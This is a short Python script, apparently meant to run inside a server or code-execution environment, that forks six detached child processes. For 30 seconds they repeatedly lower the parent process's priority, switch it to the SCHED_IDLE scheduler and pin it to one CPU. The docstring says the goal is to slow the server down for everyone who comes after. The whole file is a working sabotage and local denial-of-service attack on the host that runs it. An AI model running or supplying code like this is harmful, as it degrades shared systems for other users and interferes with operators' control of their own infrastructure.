"""Tries without end to slow the server down: its priority, its scheduling, its processors, for all that come after."""

import ctypes
import os
import struct
import time

libc = ctypes.CDLL(None, use_errno=True)
parent = os.getppid()
ONE = struct.pack("Q", 1)
CHANGES = (
    lambda: libc.setpriority(0, parent, 19),
    lambda: libc.sched_setscheduler(parent, 5, struct.pack("i", 0)),  # SCHED_IDLE
    lambda: libc.sched_setaffinity(parent, 8, ONE),
)
for number in range(6 if parent else 0):
    if os.fork() == 0:
        os.setsid()
        until = time.monotonic() + 30
        change = CHANGES[number % 3]
        while time.monotonic() < until:
            for _ in range(1000):
                change()
time.sleep(0.2)
os._exit(0)
